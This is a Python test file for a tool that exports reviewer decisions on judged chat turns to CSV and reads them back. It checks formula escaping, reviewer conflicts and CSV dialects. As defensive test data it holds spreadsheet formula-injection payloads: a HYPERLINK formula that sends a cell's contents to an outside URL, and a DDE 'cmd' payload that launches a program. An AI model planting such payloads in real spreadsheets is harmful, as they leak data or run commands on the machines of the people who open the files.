"""Tests of decisions that are written to a spreadsheet and read back."""

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from runs import message, talk, write_extract

from opdkit.commands.review.spreadsheet import COLUMNS, FILLED_IN, read_csv, write_csv
from opdkit.config.judge import JudgeConfig
from opdkit.errors import OpdkitError
from opdkit.judge import stage as judge
from opdkit.store import reviews
from opdkit.store.reviews import Review, read_reviews_in_force
from opdkit.store.spreadsheet import escape, unescape

EVIL = '=HYPERLINK("http://example.org?x="&A1)'
TURNS = ["a:1", "a:3", "b:1", "b:3"]


@pytest.fixture
def run(tmp_path):
    said = talk("How warm, é?", "75 F.", "No, in Celsius please.", "24 C.", "Thanks, 日本!")
    evil = [*talk(EVIL, '@SUM(1), "quoted"\nand more'), message("user", "-1+cmd|' /C calc'!A0"),
            message("assistant", None, calls=[("f", "{}")]), message("tool", "\tok")]  # fmt: skip
    run = write_extract(tmp_path / "run", {"a": said, "b": evil})
    judge.run(JudgeConfig(run=run, judge="rules", shard="0/1"))
    return run


def written(run) -> list[dict[str, str]]:
    path = run.parent / "sheet.csv"
    write_csv(run, path)
    return list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


def read(run, rows, tmp_path, *, columns=COLUMNS, delimiter=",", encoding="utf-8-sig"):
    stream = io.StringIO(newline="")
    writer = csv.DictWriter(stream, columns, delimiter=delimiter, extrasaction="ignore")
    writer.writeheader()
    writer.writerows(rows)
    path = tmp_path / "filled.csv"
    path.write_bytes(stream.getvalue().encode(encoding))
    return read_csv(run, path)


def decided(run) -> dict:
    return {name: review.decided for name, review in read_reviews_in_force(run).items()}


def fill(run, **cells) -> list[dict[str, str]]:
    """Return the sheet's rows with these cells of turn a:1 filled in."""
    rows = written(run)
    next(row for row in rows if row["turn_id"] == "a:1").update(cells)
    return rows


def test_one_row_a_judged_turn_that_shows_what_happened(run):
    rows = written(run)
    assert [row["turn_id"] for row in rows] == TURNS
    assert rows[0] | {"voted_hint": ""} == dict.fromkeys(COLUMNS, "") | {
        "turn_id": "a:1", "request": "How warm, é?", "reply": "75 F.", "next_state": "No, in Celsius please.",
        "voted_reward": "-1"}  # fmt: skip
    assert "Celsius" in rows[0]["voted_hint"]


def test_no_cell_is_a_formula(run):
    """A spreadsheet would run a formula that a user of the assistant wrote."""
    for row in written(run):
        for name, cell in row.items():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), name
            assert not cell.startswith("-") or cell == "-1"
    assert written(run)[2]["request"] == f"'{EVIL}"


@given(st.text(max_size=8) | st.sampled_from(["=1", "+1", "-1", "'", "''=", "@x", "\t", "-1+1", "1:1"]))
def test_what_is_escaped_comes_back(text):
    assert unescape(escape(text)) == text
    assert not escape(text).startswith(("=", "@", "\t", "\r", "\n"))


@pytest.mark.parametrize("name", ["1:1", "1:1:1", "2026-01-05 10:3"])
def test_no_turn_is_a_time(name):
    assert escape(name) == f"'{name}"
    assert [escape(text) for text in ("a:1", "-1", "1", "2026")] == ["a:1", "-1", "1", "2026"]


def test_a_sheet_that_nobody_touched_changes_nothing(run, tmp_path):
    reviews.append(run, [Review("a:1", True, -1, True, EVIL, "=note"), Review("a:3", True, None, True, None),
                         Review("b:1", note="-looked at\r\nit"), Review("b:3", False, None, True, "None")])  # fmt: skip
    before = decided(run)
    done = read(run, written(run), tmp_path)
    assert (done.changed, done.struck, done.same, done.untouched) == (0, 0, 4, 0)
    assert decided(run) == before
    assert len(reviews.ReviewLog(run).all_reviews()) == 4


@pytest.mark.parametrize(("cells", "expected"), [
    ({"reward": "1"}, {"reward": 1}), ({"reward": "-1.0"}, {"reward": -1}), ({"reward": " 0,0 "}, {"reward": 0}),
    ({"reward": "None"}, {"reward": None}), ({"hint": "none"}, {"hint": None}), ({"hint": "none "}, {"hint": None}),
    ({"hint": " Use Celsius. ", "reward": "+1"}, {"reward": 1, "hint": "Use Celsius."}),
    ({"hint": "'=1+1, say"}, {"hint": "=1+1, say"}), ({"note": "fine"}, {}), ({"action": "Accept"}, {}),
])  # fmt: skip
def test_what_is_filled_in_is_decided(run, tmp_path, cells, expected):
    done = read(run, fill(run, **cells), tmp_path)
    assert (done.changed, done.untouched) == (1, 3)
    assert decided(run) == {"a:1": expected}
    assert read(run, written(run), tmp_path).changed == 0


@pytest.mark.parametrize("voted", ["1", "1.0"])
@pytest.mark.parametrize(("before", "after"), [("random", "random"), ("group", None)])
def test_a_decision_keeps_the_vote_that_the_reviewer_saw_and_how_its_turn_was_chosen(
    run, tmp_path, voted, before, after
):
    """The vote is that of the sheet, which is of a run with another judge: there the reply has the reward 1.

    A decision on a row is about its turn alone, even after a decision on all turns with its hint ("group").
    """
    reviews.append(run, [Review("a:1", note="fine", voted_reward=1, chosen=before)])
    read(run, fill(run, voted_reward=voted, note="looked again"), tmp_path)
    found = read_reviews_in_force(run)["a:1"]
    assert (found.voted_reward, found.chosen, found.note) == (1, after, "looked again")


def test_what_is_emptied_or_struck_is_withdrawn(run, tmp_path):
    reviews.append(run, [Review("a:1", True, 1), Review("a:3", True, 1)])
    rows = written(run)
    rows[0]["reward"] = ""
    rows[1]["action"] = "strike"
    done = read(run, rows, tmp_path)
    assert (done.changed, done.struck) == (2, 2)
    assert decided(run) == {}


def test_a_row_that_nobody_touched_does_not_undo_what_others_decided_since(run, tmp_path):
    reviews.append(run, [Review("a:1", True, 1)])
    rows = written(run)
    reviews.append(run, [Review("a:1", True, -1), Review("a:3", True, 0)])
    done = read(run, rows, tmp_path)
    assert (done.changed, done.same, done.untouched) == (0, 1, 3)
    assert decided(run) == {"a:1": {"reward": -1}, "a:3": {"reward": 0}}


def test_a_decision_of_somebody_else_is_not_overwritten(run, tmp_path):
    """A sheet cannot overwrite a newer decision by somebody else. The review page refuses this, too."""
    rows = fill(run, reward="-1")
    reviews.append(run, [Review("a:1", reward_decided=True, reward=1)], reviewer="Bea")
    with pytest.raises(OpdkitError, match="Bea has decided on a:1 since"):
        read(run, rows, tmp_path)
    assert decided(run)["a:1"]["reward"] == 1
    assert read(run, fill(run, reward="-1"), tmp_path).changed == 1, "after looking at it"
    rows = fill(run, note="checked")
    reviews.append(run, [Review("a:1", action="strike", note="It was wrong.")], reviewer="Cy")
    with pytest.raises(OpdkitError, match="Cy has decided on a:1 since"):
        read(run, rows, tmp_path)
    assert "a:1" not in decided(run), "what somebody took back"


@pytest.mark.parametrize(("cells", "words"), [
    ({"reward": "2"}, "reward is '2'"), ({"reward": "good"}, "is 'good'"), ({"reward": "nan"}, "reward is 'nan'"),
    ({"action": "strke"}, "did you mean 'strike'"), ({"action": "accept", "reward": "1"}, "accept leaves everything"),
    ({"turn_id": "a:3"}, "in line 2 already"),
    ({"hint": "x" * 5000}, "hint must be text"),
])  # fmt: skip
def test_wrong_rows_are_named_by_their_line_and_nothing_is_taken(run, tmp_path, cells, words):
    rows = written(run)
    rows[2]["reward"] = "1"
    rows[1].update(cells) if "turn_id" not in cells or cells["turn_id"] != "a:3" else rows[0].update(cells)
    with pytest.raises(OpdkitError, match=re.escape("filled.csv")) as caught:
        read(run, rows, tmp_path)
    assert words in str(caught.value)
    assert "line " in str(caught.value)
    assert not reviews.reviews_dir(run).exists()


def test_decisions_move_to_a_run_without_the_sessions_of_one_user(run, tmp_path, capsys):
    """docs/privacy.md describes this. Rows of turns that are gone decide nothing there, and a warning counts them."""
    reviews.append(run, [Review("a:1", True, 1), Review("a:3", note="seen"), Review("b:1", True, 0)])
    rows = written(run)
    without = write_extract(tmp_path / "without", {"b": talk(EVIL, "Hi", "No", "Yes", "Thanks")})
    judge.run(JudgeConfig(run=without, judge="rules", shard="0/1"))
    capsys.readouterr()
    done = read(without, rows, tmp_path)
    assert (done.changed, done.struck, done.same, done.untouched) == (1, 0, 0, 1)
    assert done.text().startswith("4 rows: ")
    assert done.text().endswith(", 2 left out")
    assert decided(without) == {"b:1": {"reward": 0}}
    warned = " ".join(capsys.readouterr().err.split())
    assert all(fact in warned for fact in ("2 decisions", "line 2: a:1")), warned
    empty = dict.fromkeys(COLUMNS, "") | {"turn_id": "a:9"}
    assert read(without, [empty, *rows[2:]], tmp_path).text().endswith("1 as they were, 2 without a decision")
    assert "left out" not in capsys.readouterr().err, "a row that decides nothing"
    with pytest.raises(OpdkitError, match="none of its turns"):
        read(without, rows[:2], tmp_path)


def test_the_line_of_a_row_is_that_of_the_file(run, tmp_path):
    """Cells may hold line breaks, so errors give the line that an editor shows, not the number of the row."""
    rows = [row | {"request": "two\nlines"} for row in written(run)]
    rows[1]["reward"] = "7"
    with pytest.raises(OpdkitError, match="line 4: "):
        read(run, rows, tmp_path)


@pytest.mark.parametrize("delimiter", [";", "\t"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig"])
def test_other_dialects_of_spreadsheets(run, tmp_path, delimiter, encoding):
    done = read(run, fill(run, reward="1", hint="Größer; please, ok"), tmp_path, delimiter=delimiter, encoding=encoding)
    assert done.changed == 1
    assert decided(run) == {"a:1": {"reward": 1, "hint": "Größer; please, ok"}}


def test_the_columns_that_show_the_turn_may_go_and_the_others_may_not(run, tmp_path):
    rows = fill(run, reward="1")
    assert read(run, rows, tmp_path, columns=("turn_id", *FILLED_IN, "decision", "", "")).changed == 1
    with pytest.raises(OpdkitError, match=r"\bnote\b"):
        read(run, rows, tmp_path, columns=("turn_id", "reward", "hint", "action", "decision"))
    with pytest.raises(OpdkitError, match=r"'rewards'.*'reward'"):
        read(run, rows, tmp_path, columns=(*COLUMNS, "rewards"))


@pytest.mark.parametrize(("data", "words"), [
    (b"", "turn_id"), (b"\xff\xfe", "UTF-8"), (b'turn_id,reward,hint,note,action,decision\n"a', "line"),
    (b"turn_id,reward,hint,note,action,decision\na:1,,,,,,,1\n", r"line 2: 8 .* 6 "),
    (b"turn_id,turn_id,reward,hint,note,action,decision\n", "twice"),
])  # fmt: skip
def test_what_is_no_sheet_is_named(run, tmp_path, data, words):
    (tmp_path / "x.csv").write_bytes(data)
    with pytest.raises(OpdkitError, match=words):
        read_csv(run, tmp_path / "x.csv")


def test_numbers_of_decisions_may_come_back_as_decimals(run, tmp_path):
    """A data frame writes the numbers of a column as decimals if other cells of it are empty."""
    reviews.append(run, [Review(name, reward_decided=True, reward=0) for name in TURNS[:3]])
    rows = written(run)
    cells = [("0.0", "0.0"), ("1.0", "1,0"), ("", "2.0"), ("", "")]  # unchanged, another reward, withdrawn, undecided
    for row, (reward, decision) in zip(rows, cells, strict=True):
        row |= {"reward": reward, "decision": decision}
    assert (read(run, rows, tmp_path).changed, decided(run)) == (2, {"a:1": {"reward": 0}, "a:3": {"reward": 1}})
